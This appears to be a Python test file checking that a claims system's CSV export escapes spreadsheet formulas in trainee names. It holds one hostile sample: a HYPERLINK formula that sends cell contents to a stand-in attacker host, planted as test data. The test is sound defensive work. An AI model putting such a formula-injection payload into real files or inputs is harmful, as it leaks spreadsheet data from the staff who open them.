"""Item 7 of issue 12: a formula in a name never runs in the Excel of staff opening a CSV export."""

from __future__ import annotations

import csv
import io
from datetime import date

from sqlalchemy import update

from bot.clock import FrozenClock
from bot.csv_safe import safe_cell
from models import Trainee
from tests.claims.conftest import World, at
from tests.claims.test_lifecycle import by_trainee, move

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_safe_cell_escapes_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("张伟") == "张伟" and safe_cell(3) == 3 and safe_cell("1200.00") == "1200.00"


async def test_publicity_csv_escapes_a_formula_name(world: World, clock: FrozenClock) -> None:
    zhang = world.trainees["zhang"]
    async with world.services.db.session() as db:
        await db.execute(update(Trainee).where(Trainee.id == zhang.id).values(name=EVIL))
    class_id = await world.add_class("X1", date(2026, 9, 1), date(2026, 9, 24), trainees=("zhang",))
    clock.set(at(date(2026, 9, 28)))
    _, body = await world.post(
        "changchun", f"/api/v1/admin/classes/{class_id}/claims", {"subsidy_type": "training"}
    )
    claim = by_trainee(world, body["claims"], "zhang")["id"]
    clock.set(at(date(2026, 10, 9)))
    await move(world, "changchun", claim, "under_review")
    await move(world, "changchun", claim, "approved", amount="1200")
    resp = await world.client.get(
        f"/api/v1/admin/claims/publicity.csv?class_id={class_id}", headers=world.headers("changchun")
    )
    assert resp.status == 200
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    assert rows[1][2] == "'" + EVIL
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
